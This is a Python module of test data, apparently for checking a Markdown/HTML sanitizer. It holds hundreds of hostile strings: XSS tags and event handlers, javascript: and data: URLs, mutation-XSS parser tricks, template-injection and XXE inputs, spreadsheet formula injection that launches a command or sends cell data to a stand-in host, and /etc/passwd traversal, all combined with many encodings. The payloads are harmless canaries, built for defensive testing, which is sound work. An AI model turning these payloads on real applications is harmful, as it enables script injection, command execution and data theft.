"""Strings that try to run, load or break out of where they stand: kinds × contexts × encodings. `__hit()` is the canary.

Data only. `canary.test` is a host that nobody may ever be asked for.
"""

from __future__ import annotations

import base64
from itertools import product
from urllib.parse import quote

IMG = "<img src=x onerror=__hit()>"
SCRIPT = "<script>__hit()</script>"
SVG = "<svg onload=__hit()>"

_HTML = f"""{SCRIPT}
<SCRIPT>__hit()</SCRIPT>
<script src=//canary.test/a.js></script>
<script src="data:text/javascript,__hit()"></script>
<script>__hit()//
<script type=module>__hit()</script>
<script
>__hit()</script
>
<scr<script>ipt>__hit()</scr</script>ipt>
{IMG}
<img src=x onerror="__hit()">
<img src=x onerror='__hit()'>
<img src=x onerror=`__hit()`>
<img/src=x/onerror=__hit()>
<img src=x onerror=__hit()//
<IMG SRC=x OnErRoR=__hit()>
<img src=x onerror=__hit() a=@>
<img src=x:x onerror="__hit()" x@y.org>
<img src=http://canary.test/p.png>
<img srcset="http://canary.test/p.png 2x">
<image src=x onerror=__hit()>
{SVG}
<svg/onload=__hit()>
<svg><script>__hit()</script></svg>
<svg><script href="data:text/javascript,__hit()"/></svg>
<svg><animate onbegin=__hit() attributeName=x dur=1s>
<svg><set onbegin=__hit() attributename=x>
<svg><a xlink:href="javascript:__hit()"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:__hit()></animate><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='__hit()'/>#x"></svg>
<svg><foreignObject><iframe src=javascript:__hit()></foreignObject></svg>
<svg><image href=http://canary.test/p.png></svg>
<math><a xlink:href="javascript:__hit()">x</a></math>
<math><mi xlink:href="data:text/html,{SCRIPT}">x</mi></math>
<math><maction actiontype=statusline xlink:href=javascript:__hit()>x</maction></math>
<body onload=__hit()>
<body onpageshow=__hit()>
<details open ontoggle=__hit()>x</details>
<input autofocus onfocus=__hit()>
<textarea autofocus onfocus=__hit()></textarea>
<select autofocus onfocus=__hit()></select>
<button autofocus onfocus=__hit()>x</button>
<a autofocus tabindex=0 onfocus=__hit()>x</a>
<quiz autofocus tabindex=0 onfocus=__hit()>x</quiz>
<div autofocus contenteditable onfocus=__hit()>x</div>
<div style="animation:x" onanimationstart=__hit()>x</div>
<p onmouseover=__hit() style="position:fixed;inset:0">x</p>
<x onpointerenter=__hit() style="display:block;width:9999px;height:9999px">x</x>
<iframe src=javascript:__hit()></iframe>
<iframe src="javascript:top.__hit()"></iframe>
<iframe srcdoc="<script>top.__hit()</script>"></iframe>
<iframe src=http://canary.test/></iframe>
<iframe onload=__hit()></iframe>
<frameset onload=__hit()><frame src=javascript:__hit()>
<object data="javascript:__hit()"></object>
<object data="data:text/html,<script>top.__hit()</script>"></object>
<object data=http://canary.test/></object>
<embed src="javascript:__hit()">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.__hit()'/>">
<video src=x onerror=__hit()></video>
<video><source onerror=__hit() src=x></video>
<video poster=http://canary.test/p.png></video>
<audio src=x onerror=__hit()></audio>
<audio src=http://canary.test/a.mp3 autoplay></audio>
<track src=http://canary.test/t.vtt>
<marquee onstart=__hit()>x</marquee>
<meta http-equiv=refresh content="0;url=javascript:__hit()">
<meta http-equiv=refresh content="0;url=http://canary.test/">
<meta http-equiv=Content-Security-Policy content="default-src 'none'">
<meta charset=utf-7>+ADw-script+AD4-__hit()+ADw-/script+AD4-
<base href=http://canary.test/>
<base target=x href=javascript:/a/>
<link rel=stylesheet href=http://canary.test/a.css>
<link rel=prefetch href=http://canary.test/a>
<link rel=import href=http://canary.test/a>
<link rel=preload as=script href=http://canary.test/a.js>
<style>@import 'http://canary.test/a.css';</style>
<style>*{{background:url(http://canary.test/p.png)}}</style>
<style>*{{behavior:url(x.htc);-moz-binding:url(//canary.test/x)}}</style>
<div style="background:url(http://canary.test/p.png)">x</div>
<div style="width:expression(__hit())">x</div>
<form action=javascript:__hit()><button>x</button></form>
<form action=http://canary.test/><input type=submit></form>
<button form=x formaction=javascript:__hit()>x</button>
<form id=document><input name=cookie></form>
<a id=fieldbook><a id=fieldbook name=record href=x:y>
<a id=__proto__ name=x>
<isindex type=image src=x onerror=__hit()>
<applet code=x archive=http://canary.test/></applet>
<table background=http://canary.test/p.png><td>x
<a href="javascript:__hit()">x</a>
<a href=javascript&colon;__hit()>x</a>
<a href="http://canary.test/" ping=http://canary.test/ping>x</a>
<area href=javascript:__hit()>
<template>{SCRIPT}</template>
<template shadowrootmode=open>{IMG}</template>
<dialog open onclose=__hit()><form method=dialog><button>x</button></form></dialog>
<slot onslotchange=__hit()>x</slot>
<div markdown="1" onclick=__hit()>x</div>
<div markdown="1">{IMG}</div>
<div class="a" onmouseover="__hit()" markdown="1">
<http://x onmouseover=__hit()>
<https://canary.test/"onmouseover=__hit()>
<?xml-stylesheet href="javascript:__hit()"?>
<?php __hit() ?>
<!DOCTYPE x [<!ENTITY e SYSTEM "http://canary.test/">]>&e;
<![CDATA[{IMG}]]>"""

_BEFORE = ('"', "'", "`", ">", '">', "'>", "-->", "--!>", "]]>", "</script>", "</title>", "</textarea>", "</style>", "</noscript>", "</option></select>", "</template>",
           "</svg>", "</summary></details>", "</p></div>", "</code></pre>", "?>", "%>", "*/", '\\"', "\\'", "&quot;>", "&#34;>", "\u2028", "\n\n", '\\`', "`` ` ")
_AFTER = (IMG, SVG, SCRIPT, " autofocus onfocus=__hit() x=", "</p>" + IMG)

_URLS = ("javascript:__hit()", "JaVaScRiPt:__hit()", "javascript://%0a__hit()", "javascript:/*--></title>*/__hit()", "java\tscript:__hit()", "java\nscript:__hit()", "\x01javascript:__hit()",
         "\u00a0javascript:__hit()", "javascript\u200b:__hit()", "java&#115;cript:__hit()", "&#106;avascript:__hit()", "&#x6A;avascript&#58;__hit()", "javascript&colon;__hit()", "java&Tab;script:__hit()",
         "javascript\\:__hit()", "%6Aavascript:__hit()", "javascript%3A__hit()", "vbscript:__hit()", "livescript:__hit()", "data:text/html,<script>__hit()</script>",
         "data:text/html;base64," + base64.b64encode(SCRIPT.encode()).decode(), "data:image/svg+xml,<svg onload=__hit()>", "blob:http://canary.test/1", "filesystem:http://canary.test/1",
         "view-source:javascript:__hit()", "feed:javascript:__hit()", "file:///etc/passwd", "//canary.test/", "\\\\canary.test\\", "/\\canary.test/", "http:canary.test", "http://canary.test/",
         "https://canary.test/\" onmouseover=\"__hit()", "../../../../etc/passwd.md", "term-x\" onmouseover=__hit() x=", "#\"><img src=x onerror=__hit()>")
_LINKS = ("{}", "[x]({})", "[x](<{}>)", '[x]({} "onmouseover=__hit()")', "![x]({})", "<{}>", "[x]: {}")

_ATTRIBUTES = ("onclick=__hit()", "onclick='__hit()'", ': onclick="__hit()" ', ": autofocus tabindex=0 onfocus=__hit() ", ": style=background:url(http://canary.test) ", ": href=javascript:__hit() ", ": src=x onerror=__hit() ",
               ".a onclick=__hit()", "#a .b onmouseover=__hit()", ': data-piece="question/x/y" onclick=__hit()', "{ onclick=__hit() }", ": .a} onclick=__hit() ", ": id=fieldbook ", ': data-claim="x" onclick=__hit() ')
_ATTRIBUTED = ("**x**{{{}}}", "[x](#how){{{}}}", "`x`{{{}}}", "x {{{}}}", "x\n{{{}}}", "``` {{{}}}")

_TEMPLATES = ("{{7*7}}", "{{config}}", "{{ self.__init__.__globals__ }}", "{% include '/etc/passwd' %}", "{% raw %}", "{# x", "{{'a'.constructor.constructor('__hit()')()}}", "${__hit()}", "`${__hit()}`", "#{__hit()}",
              "<%= __hit() %>", "[[${__hit()}]]", "{{=__hit()}}", "@(__hit())", "{{page.title}}", "%(x)s %s %n {0} {}", "{0.__class__}", "\\1\\g<0>\\g<1>", "$& $1 $` $'", "{}")

_MARKERS = ("<!-- quiz -->", "<!-- checklist x -->", "<!-- picture x -->", f"<!-->{IMG}-->", f"<!--->{IMG}-->", f"<!-- --!>{IMG}-->", f"<!-- {IMG}", f"<!--[if IE]>{SCRIPT}<![endif]-->", f"<!-- x -->{IMG}", f"--> {IMG} <!--",
            "<quiz>\nx\n- [x] y\n</quiz>", "</quiz>" + IMG, '<div id="quiz-progress-sidebar">', '</div>\n</div><div class="fb-quiz">', "</details>\n</div>" + IMG, f"```\n{IMG}", f"~~~\n{IMG}", f"`\\`{IMG}`", f"\\`{IMG}`", f"``{IMG}`", f"`{IMG}`", f"``` \n{IMG}\n```",
            f"    {IMG}", f"> {IMG}", f"- [x] {IMG}", f"# {IMG}", f"| {IMG} |", f"[^1]: {IMG}", f"*[x]: {IMG}", f"x\n===\n{IMG}", f": {IMG}", f"!!! note\n    {IMG}", "--8<-- \"/etc/passwd\"", "![[x]]", f"\ue0000\ue001{IMG}", "\x02wzxhzdk:0\x03", "\x02amp\x03lt;img\x03")

_MUTATIONS = (f"<math><mtext><table><mglyph><style><!--</style>{IMG}", f'<svg></p><style><a id="</style>{IMG}">', f'<noscript><p title="</noscript>{IMG}">', f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
              f'<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>{IMG}', f"<xmp>{IMG}</xmp>", f"<plaintext>{IMG}", f"<listing>&lt;img src=x onerror=__hit()&gt;</listing>", f"<textarea><!--</textarea>{IMG}-->", f"<style><!--</style>{IMG}//--></style>",
              f"<title><!--</title>{IMG}--></title>", f"<select><option><style></option></select>{IMG}</style>", f"<table><tr><td></table>{IMG}", f"<a href='x`{IMG}'>x</a>", "<img src=`x`onerror=__hit()>", f"<svg><![CDATA[><image xlink:href=\"]]>{IMG}\"/></svg>", f"<iframe><!--</iframe>{IMG}-->")

_FORMULAS = ('=HYPERLINK("http://canary.test/?x="&A1,"x")', "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", '=IMPORTXML("http://canary.test/","//a")', "\t=1+1", "\r=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", '"=1+1', "';=1+1", '","=1+1","', "\n=1+1", " =1+1", "%0A=1+1")

_XML = ("<!DOCTYPE a [<!ENTITY x \"y\">]>&x;", "&xxe;", "&lt;script&gt;__hit()&lt;/script&gt;", "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>__hit()</x:script>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>__hit()</x:script>", "&#0;&#1;&#xD800;&#x110000;", "&amp;amp;lt;img src=x onerror=__hit()>", "<xi:include href='http://canary.test/'/>")

_JSON = ('","x":"y', '"}]};__hit();//', "\\u003cimg src=x onerror=__hit()\\u003e", "';__hit();//", "\";__hit();//", "`;__hit();//", "\\\";__hit();//", "\u2028__hit()//", "\u2029__hit()//", "</script><!--<script>", "<!--<script>", "__proto__", "constructor", "hasOwnProperty", "toString", "undefined", "null", "NaN")

_SIGNS = ("\u202e\u2066)(tih__\u2069\u2066<gmi", "\u202dabc", "a\u200bb\u200c\u200d\u2060\ufeff", "\x00<img src=x onerror=__hit()>", "<im\x00g src=x onerror=__hit()>", "<img\x0csrc=x\x0conerror=__hit()>", "<img\x0bsrc=x onerror=__hit()>", "\x1b[31mred\x1b]8;;http://canary.test\x07", "\x07\x08\x7f\x85", "\ufffe\uffff", "\U000e0041\U000e0042", "e\u0301" * 200,
          "<\u0338img src=x onerror=__hit()>", "ſcript: <ſcript>__hit()</ſcript>", "<img src=x onerror=__hit\u2028()>", "é" * 900, "客" * 1900, "[" * 900, "*" * 900, "(" * 900, "<" * 900, "![" * 400, "`" * 401, "&" * 500, "A" * 1800 + IMG, "> " * 300 + "x", "\\" * 401, "[x](" * 300)


def _encoded(text: str) -> dict[str, str]:
    """One text as it may come by, from HTML, addresses, scripts, mail and old servers."""
    return {
        "decimal": "".join(f"&#{ord(c)};" for c in text),
        "hexadecimal": "".join(f"&#x{ord(c):X};" for c in text),
        "bare": "".join(f"&#{ord(c):07}" for c in text),
        "named": text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"),
        "named twice": text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
        "legacy": text.replace("<", "&LT").replace(">", "&GT"),
        "address": quote(text, safe=""),
        "address twice": quote(quote(text, safe=""), safe=""),
        "script": "".join(f"\\u{ord(c):04x}" for c in text),
        "script short": "".join(f"\\x{ord(c):02x}" for c in text),
        "wide": "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
        "overlong": text.replace("<", "%C0%BC").replace(">", "%C0%BE"),
        "utf-7": text.replace("<", "+ADw-").replace(">", "+AD4-"),
        "base64": base64.b64encode(text.encode()).decode(),
        "backslashes": text.replace("<", "\\<").replace(">", "\\>"),
    }


def _html() -> list[str]:
    """A line a string; one that goes on stands in one with the lines that close it."""
    lines = _HTML.split("\n")
    at = lines.index("<script")
    return [*lines[:at], "\n".join(lines[at : at + 3]), *lines[at + 3 :]]


KINDS: dict[str, list[str]] = {
    "raw HTML": _html(),
    "breaking out": [before + after for before, after in product(_BEFORE, _AFTER)],
    "addresses": [link.format(url) for url, link in product(_URLS, _LINKS)],
    "attribute lists": [words.format(attributes) for words, attributes in product(_ATTRIBUTED, _ATTRIBUTES)],
    "templates": list(_TEMPLATES),
    "markers and Markdown": list(_MARKERS),
    "mutations": list(_MUTATIONS),
    "encodings": [encoded for text in (IMG, SCRIPT, SVG, "javascript:__hit()", '" onmouseover="__hit()') for encoded in _encoded(text).values()],
    "formulas": list(_FORMULAS),
    "XML": list(_XML),
    "JSON": list(_JSON),
    "signs and lengths": list(_SIGNS),
}
HOSTILE: list[str] = list(dict.fromkeys(text for kind in KINDS.values() for text in kind))
SAMPLE: list[str] = list(dict.fromkeys(text for kind in KINDS.values() for text in kind[:: max(1, len(kind) // 5)]))
"""A few of each kind, for what must be quick."""
